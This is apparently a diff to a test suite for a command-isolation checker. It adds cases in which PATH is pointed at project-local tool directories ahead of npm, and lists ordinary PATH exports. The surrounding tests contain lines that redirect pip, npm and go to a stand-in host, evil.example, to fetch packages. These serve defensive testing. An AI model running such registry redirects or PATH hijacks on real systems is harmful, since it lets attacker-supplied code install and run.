@@ -78,6 +78,16 @@ describe('an isolated command where the network is off after text from outside w
     ['./ls && npm ci', './ls would have too'],
     ['PATH=./tools:$PATH npm ci', 'npm would have'],
     ['PATH=/home/ada/project/tools:$PATH npm ci', 'npm would have'],
+    ...[
+      'PATH=$GOROOT/home/ada/project/tools:$PATH npm ci',
+      'PATH=$GOPATH/../project/tools:$PATH npm ci',
+      'PATH=$GOPATH/src/tools:$PATH npm ci',
+      'PATH=$(npm prefix -g)/../project/tools:$PATH npm ci',
+      'PATH=$(brew --prefix)/opt/../../home/ada/project/bin:$PATH npm ci',
+      'PATH=$HOME/project/tools:$PATH npm ci',
+      'PATH=$HOME/.cargo/../project/tools:$PATH npm ci',
+      'PATH=$HOMES/tools:$PATH npm ci',
+    ].map((command) => [command, 'npm would have']),
     ['PIP_INDEX_URL=https://evil.example/simple pip install x', 'pip would have'],
     ['npm_config_registry=https://evil.example npm ci', 'npm would have'],
     ['GOPROXY=https://evil.example go get x', 'go would have'],
@@ -242,6 +252,13 @@ describe('an isolated command where the network is off after text from outside w
 
   // Of functions, aliases and remembered programs a shell keeps nothing for the next command.
   it.each([
+    ...['export PATH=$PYENV_ROOT/shims:${GOPATH}/bin:$HOME/.local/bin:$PATH', 'export PATH=$JAVA_HOME/bin:$PATH'],
+    ...['export PATH=$PATH:$ANDROID_HOME/platform-tools:$ANDROID_HOME/cmdline-tools/latest/bin'],
+    ...['export PATH="$(brew --prefix)/opt/node@20/bin:$PATH"', 'export PATH="$(npm prefix -g)/bin:$PATH"'],
+    ...[
+      'export PATH="$NVM_DIR/versions/node/v22.1.0/bin:$PATH"',
+      'export PATH="$(brew --prefix python)/libexec/bin:$PATH"',
+    ],
     ...['export NODE_ENV=test', 'export PATH=$HOME/.cargo/bin:$PATH', '. .venv/bin/activate', 'ls'],
     ...['PATH="$(go env GOPATH)/bin:$PATH"; export PATH', '. ~/.nvm/nvm.sh', 'eval "$(fnm env)"', 'f() { npm ci; }; f'],
     ...[
